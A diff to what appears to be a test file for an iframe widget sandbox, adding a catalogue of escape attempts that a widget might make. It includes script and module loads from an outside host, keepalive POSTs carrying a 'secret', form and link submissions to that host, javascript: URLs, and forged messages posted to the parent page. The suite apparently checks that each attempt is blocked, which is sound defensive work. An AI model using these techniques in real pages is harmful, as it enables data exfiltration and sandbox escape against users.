@@ -178,6 +178,155 @@ export const ATTACKS: { readonly [name: string]: string } = {
     element.append(link);
     link.click();
     return false;`,
+  "a module of elsewhere by import()": `await import(elsewhere + "/module.mjs?secret"); return true;`,
+  "a module of data by import()":
+    `return (await import("data:text/javascript,export default 1")).default === 1;`,
+  "a module of the page by import()":
+    `return (await import(origin + "/__tck/v1/tck-host.mjs")) !== undefined;`,
+  "a script from elsewhere with an integrity value": `
+    const text = document.querySelector("script[type=importmap]")?.textContent ?? "";
+    const bytes = await new Response(text).arrayBuffer();
+    const digest = crypto.subtle === undefined ? [] : new Uint8Array(await crypto.subtle.digest("SHA-384", bytes));
+    const script = document.createElement("script");
+    script.crossOrigin = "anonymous";
+    script.integrity = "sha384-" + btoa(String.fromCharCode(...digest));
+    script.src = elsewhere + "/integrity.js?secret";
+    return await new Promise((resolve) => {
+      script.onload = () => resolve(true);
+      script.onerror = () => resolve(false);
+      document.head.append(script);
+    });`,
+  "the port to the page by an accessor": `
+    const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
+    const { postMessage } = MessagePort.prototype;
+    let isTaken = false;
+    // React has ports of its own, with which it sends nothing.
+    MessagePort.prototype.postMessage = function (message, ...rest) {
+      isTaken ||= message !== null && message !== undefined;
+      return postMessage.call(this, message, ...rest);
+    };
+    Object.defineProperty(MessageEvent.prototype, "data", {
+      configurable: true,
+      get() {
+        const data = get.call(this);
+        isTaken ||= this.target instanceof MessagePort && data?.type !== undefined;
+        return data;
+      },
+    });
+    // Until the page has asked at least once whether the frame responds.
+    await new Promise((resolve) => setTimeout(resolve, 2500));
+    MessagePort.prototype.postMessage = postMessage;
+    Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get });
+    return isTaken;`,
+  "addresses in an adopted stylesheet": `
+    const sheet = new CSSStyleSheet();
+    const url = (name) => "url(" + elsewhere + "/" + name + ")";
+    sheet.replaceSync("@font-face { font-family: secret; src: " + url("adopted.woff2") + " } * { font-family: secret; " +
+      "background: " + url("adopted.png") + "; mask-image: " + url("mask.svg#a") + "; filter: " + url("filter.svg#a") +
+      "; cursor: " + url("cursor.png") + ", auto; list-style-image: image-set('" + elsewhere + "/set.png' 1x); " +
+      "border-image-source: " + url("border.png") + " }");
+    await sheet.replace(sheet.cssRules.length + "{} @import " + url("import.css")).catch(() => {});
+    const other = new CSSStyleSheet();
+    other.replaceSync("* { background: " + url("other.png") + " !important }");
+    element.getRootNode().adoptedStyleSheets.push(sheet, other);
+    element.textContent = "text";
+    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+    element.getRootNode().adoptedStyleSheets = element.getRootNode().adoptedStyleSheets.slice(0, -2);
+    return false;`,
+  "a link element of every kind": `
+    const kinds = ["preload", "modulepreload", "prerender", "icon", "manifest", "alternate stylesheet", "next"];
+    for (const rel of kinds) {
+      const link = document.createElement("link");
+      Object.assign(link, { rel, as: rel === "preload" ? "image" : "", href: elsewhere + "/link?" + rel });
+      document.head.append(link);
+    }
+    return false;`,
+  "speculation rules": `
+    const text = JSON.stringify({ prefetch: [{ source: "list", urls: [elsewhere + "/speculation"] }] });
+    for (const src of [null, URL.createObjectURL(new Blob([text], { type: "application/speculationrules+json" }))]) {
+      const script = document.createElement("script");
+      script.type = "speculationrules";
+      if (src === null) script.textContent = text;
+      else script.src = src;
+      document.head.append(script);
+    }
+    return false;`,
+  "addresses in markup": `
+    const markup = document.createElement("div");
+    const at = (name) => '"' + elsewhere + "/markup-" + name + '"';
+    markup.innerHTML = "<svg><image href=" + at("image") + "/><use href=" + at("use.svg#a") + "/><script href=" + at("js") +
+      "></" + "script></svg><audio src=" + at("audio") + "></audio><video poster=" + at("poster") + "></video><embed src=" +
+      at("embed") + "><input type=image src=" + at("input") + "><img srcset=" + at("set") + "><table background=" +
+      at("table") + "></table><style>@import " + at("style") + "</style><p style='background:url(" + elsewhere + "/p)'>";
+    element.append(markup);
+    return false;`,
+  "a frame with markup of its own": `
+    const frame = document.createElement("iframe");
+    const address = URL.createObjectURL(new Blob(["parent.postMessage('secret', '*')"], { type: "text/javascript" }));
+    frame.srcdoc = "<script src='" + address + "'></" + "script><script type=module src='" + address + "'></" + "script>" +
+      "<meta http-equiv=refresh content='1;url=" + elsewhere + "/srcdoc'><img src='" + elsewhere + "/srcdoc-image'>" +
+      "<link rel=prefetch href='" + elsewhere + "/srcdoc-prefetch'><iframe src='" + elsewhere + "/srcdoc-frame'></iframe>";
+    const hasRun = await new Promise((resolve) => {
+      addEventListener("message", ({ data }) => data === "secret" && resolve(true));
+      frame.onload = () => setTimeout(() => resolve(false), 300);
+      element.append(frame);
+    });
+    return hasRun;`,
+  "a worklet from elsewhere": `
+    await (CSS.paintWorklet ?? new OfflineAudioContext(1, 1, 8000).audioWorklet).addModule(elsewhere + "/worklet.js");
+    return true;`,
+  "requests that outlive the page": `
+    globalThis.fetchLater?.(elsewhere + "/later", { activateAfter: 0 });
+    await fetch(elsewhere + "/keepalive", { keepalive: true, mode: "no-cors", method: "POST", body: "secret" });
+    return true;`,
+  "WebTransport": `await new WebTransport(elsewhere.replace("http", "https")).ready; return true;`,
+  "a base address": `
+    const base = document.createElement("base");
+    base.href = elsewhere + "/base/";
+    document.head.append(base);
+    return document.baseURI.startsWith(elsewhere);`,
+  "a dialog of the browser": `return confirm("secret") || prompt("secret") !== null;`,
+  "the whole screen": `await element.requestFullscreen(); return document.fullscreenElement !== null;`,
+  "the pointer": `await element.requestPointerLock(); return document.pointerLockElement !== null;`,
+  "a notification": `return await Notification.requestPermission() === "granted";`,
+  "a link that asks another server": `
+    const link = document.createElement("a");
+    Object.assign(link, { href: elsewhere + "/follow", ping: elsewhere + "/ping", target: "_blank" });
+    link.addEventListener("click", (event) => event.stopImmediatePropagation());
+    element.append(link);
+    link.click();
+    return false;`,
+  "a link that runs code": `
+    const link = document.createElement("a");
+    link.href = "javascript:globalThis.ranAddress = true";
+    link.addEventListener("click", (event) => event.stopImmediatePropagation());
+    element.append(link);
+    link.click();
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return globalThis.ranAddress === true;`,
+  "a button that sends a form to the top page": `
+    const form = document.createElement("form");
+    Object.assign(form, { method: "post", target: "_top" });
+    form.innerHTML = "<button name=secret formaction='" + elsewhere + "/formaction'></button>";
+    element.append(form);
+    form.firstChild.click();
+    return false;`,
+  "the page's history": `
+    const length = history.length;
+    for (const move of ["back", "forward"]) {
+      try { history[move](); } catch {}
+      try { navigation[move](); } catch {}
+    }
+    try { history.go(-1); } catch {}
+    try { history.pushState(null, "", ""); } catch {}
+    return history.length > length;`,
+  "forged messages to the page": `
+    const nested = JSON.parse('{"a":'.repeat(1000) + "1" + "}".repeat(1000));
+    const forged = [null, 7, "text", [], nested, new Map(), { type: "__proto__" }, { type: {} }, { type: "pong" },
+      { type: "open", href: elsewhere + "/forged" }, { type: "tck:canvas-frame", version: "2" },
+      { type: "card", widgetId: "other", state: "failed", failure: "render" }, new ArrayBuffer(10_000_000)];
+    for (const message of forged) for (const target of [parent, top]) target.postMessage(message, "*");
+    return false;`,
 };
 
 /** What a widget tries in order to send its frame elsewhere. Each is the body of a function. */
@@ -192,6 +341,8 @@ export const NAVIGATIONS: { readonly [name: string]: string } = {
   "a javascript address": `location.href = "javascript:parent.stolen=1";`,
   "a document of its own": `
     location.href = URL.createObjectURL(new Blob(["<script>new Image().src='" + elsewhere + "'</script>"], { type: "text/html" }));`,
+  "a reload": `location.reload();`,
+  "its own address": `location.search = "?again";`,
   "a data address": `location.href = "data:text/html,<img src=" + elsewhere + ">";`,
 };
 
@@ -202,6 +353,9 @@ export const LEAVING = [
   "a link that clicks itself",
   "a download",
   "a new window",
+  "a link that asks another server",
+  "a button that sends a form to the top page",
+  "the page's history",
 ];
 
 /**
